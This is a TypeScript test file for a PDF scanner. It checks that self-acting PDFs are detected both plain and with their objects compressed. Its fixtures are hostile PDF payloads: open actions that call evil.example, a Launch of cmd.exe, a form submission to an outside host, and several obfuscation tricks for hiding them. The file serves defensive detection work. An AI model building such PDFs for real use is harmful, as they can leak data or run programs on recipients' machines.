import { execFileSync } from "node:child_process";
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { Readable } from "node:stream";
import { describe, expect, it } from "vitest";
import { readPdfFacts } from "#platform/text-extraction/pdf.ts";
import { withWorkFolder } from "#platform/sandbox/work-folder.ts";
import { pdfOf } from "#test/documents/pdf.ts";
import { reportFigure } from "#test/kit/report-figure.ts";

const OWNER = { isolation: "BUBBLEWRAP", owner: "test", lane: "DOCUMENTS" } as const;
/** A page of one PDF; the catalog and the fourth object are the attacker's. */
const pdf = (catalog: string, fourth = "null", page = "", { fifth = "null", trailer = "" } = {}) =>
  pdfOf(
    [
      `<</Type/Catalog/Pages 2 0 R${catalog}>>`,
      "<</Type/Pages/Kids[3 0 R]/Count 1>>",
      `<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]${page}>>`,
      fourth,
      fifth,
    ],
    { trailer },
  );
const isActive = (bytes: Buffer) =>
  withWorkFolder(async () => Readable.from([bytes]), OWNER, readPdfFacts).then((facts) => facts.isActive);

/** The same document with its objects in a compressed stream, where no name can be seen. */
function packed(bytes: Buffer): Buffer {
  const folder = mkdtempSync(join(tmpdir(), "cara-packed-"));
  const [plain, small] = [join(folder, "plain.pdf"), join(folder, "small.pdf")];
  try {
    writeFileSync(plain, bytes);
    execFileSync("qpdf", [
      "--warning-exit-0",
      "--no-warn",
      "--object-streams=generate",
      "--compress-streams=y",
      plain,
      small,
    ]);
    return readFileSync(small);
  } finally {
    rmSync(folder, { recursive: true });
  }
}

const LINK = "/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://carrier.example)>>>>]";
const URI = "<</S/URI/URI(https://evil.example)>>";
const HARMLESS = "<</Type/Catalog/Pages 2 0 R/OpenAction[3 0 R/Fit]>>";
const ACTIONS: readonly (readonly [string, Buffer])[] = [
  ["URI when opened", pdf("/OpenAction<</S/URI/URI(https://evil.example)>>")],
  ["URI when opened, by reference", pdf("/OpenAction 4 0 R", "<</S/URI/URI(https://evil.example)>>")],
  ["URI after another action", pdf("/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next 4 0 R>>", "<</S/URI/URI(x)>>")],
  ["URI, its name spelled otherwise", pdf("/Open#41ction<</S/#55RI/#55RI(https://evil.example)>>")],
  ["GoToR", pdf("/OpenAction<</S/GoToR/F(\\\\\\\\evil.example\\\\a)/D[0/Fit]>>")],
  ["GoToE", pdf("", "null", "/Annots[<</Subtype/Link/Rect[0 0 9 9]/A<</S/GoToE/D[0/Fit]>>>>]")],
  ["Rendition", pdf("/OpenAction 4 0 R", "<</S/Rendition/OP 0>>")],
  ["Launch", pdf("/OpenAction<</S/Launch/F(cmd.exe)>>")],
  [
    "SubmitForm",
    pdf("", "null", "/Annots[<</Subtype/Link/Rect[0 0 9 9]/A<</S/SubmitForm/F(https://evil.example)>>>>]"),
  ],
  ["URI behind a string that looks like a place", pdf("/Lang(/OpenAction [)/OpenAction 4 0 R", URI)],
  ["URI behind a dictionary that holds a place", pdf("/AAX<</OpenAction[3 0 R/Fit]>>/OpenAction 4 0 R", URI)],
  [
    "URI beside a string that names another catalog",
    pdf("/OpenAction 4 0 R", URI, "", { fifth: HARMLESS, trailer: "/ID[(/Root 5 0 R )(x)]" }),
  ],
  ["URI by a reference to a reference", pdf("/OpenAction 5 0 R", URI, "", { fifth: "4 0 R" })],
  ["URI whose kind is a reference", pdf("/OpenAction<</S 4 0 R/URI(https://evil.example)>>", "/URI")],
  ["an action of a page", pdf("", "<</S/URI/URI(x)>>", "/AA<</O 4 0 R>>")],
];

describe("a PDF that acts by itself", () => {
  it("is found, plain or with its objects packed", { timeout: 120_000 }, async () => {
    const missed: string[] = [];
    for (const [name, bytes] of ACTIONS)
      for (const [form, document] of [
        ["plain", bytes],
        ["packed", packed(bytes)],
      ] as const)
        if (!(await isActive(document))) missed.push(`${name}, ${form}`);
    expect(missed).toEqual([]);
    reportFigure("actions of a PDF that are not found", missed.length, 0);
  });

  it.each([
    ["opens on a page", pdf("/OpenAction[3 0 R/Fit]")],
    ["holds a string that looks like an action", pdf("/Lang(/OpenAction 4 0 R)/OpenAction[3 0 R/Fit]", URI)],
    ["opens on a page by an action", pdf("/OpenAction 4 0 R", "<</S/GoTo/D[3 0 R/Fit]>>")],
    ["holds a link", pdf("/OpenAction[3 0 R/Fit]", "null", LINK)],
  ])("is not taken for one that only %s", async (_name, bytes) => {
    expect(await isActive(bytes)).toBe(false);
  });
});
